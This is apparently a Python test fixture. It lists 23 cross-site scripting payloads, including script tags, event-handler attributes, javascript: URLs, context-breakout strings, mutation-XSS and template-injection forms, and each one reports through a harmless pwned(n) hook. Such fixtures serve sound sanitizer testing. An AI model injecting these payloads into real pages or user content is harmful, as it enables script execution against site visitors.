"""Texts that run a script where a page takes them for markup; each reports itself as `pwned(number)`."""

PAYLOADS = (
    "<script>pwned(1)</script>",
    "<img src=x onerror=pwned(2)>",
    "<svg onload=pwned(3)></svg>",
    "<svg><script>pwned(4)</script></svg>",
    '<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
    "<iframe src=\"javascript:parent.pwned(6)\"></iframe>",
    "<details open ontoggle=pwned(7)>x</details>",
    "<video><source onerror=pwned(8)></video>",
    "<audio src=x onerror=pwned(9)></audio>",
    "<input autofocus onfocus=pwned(10)>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=pwned(11)>x</b>",
    "<object data='javascript:parent.pwned(12)'></object><embed src=x onerror=pwned(12)>",
    '"><img src=x onerror=pwned(13)>',
    "'><img src=x onerror=pwned(14)>",
    "--><img src=x onerror=pwned(15)>",
    "]]><img src=x onerror=pwned(16)>",
    "</textarea></title></style></script><img src=x onerror=pwned(17)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(18)&gt;'>",
    "{{ constructor.constructor('pwned(19)')() }} ${pwned(19)} <%= pwned(19) %>",
    "[x](javascript:pwned(20)) ![x](x\" onerror=\"pwned(20)) <javascript:pwned(20)>",
    "&lt;img src=x onerror=pwned(21)&gt; \\u003cimg src=x onerror=pwned(21)\\u003e",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(22)'><base href=javascript:/pwned(22)//>",
    "<body onload=pwned(23)><marquee onstart=pwned(23)>x</marquee>",
)  # fmt: skip
ALL = " ".join(PAYLOADS)
REPORTING = "window.hits = []; window.pwned = number => { window.hits.push(number); top.hits.push(number); };"
"""What a page gets before anything else, so that payloads can report."""
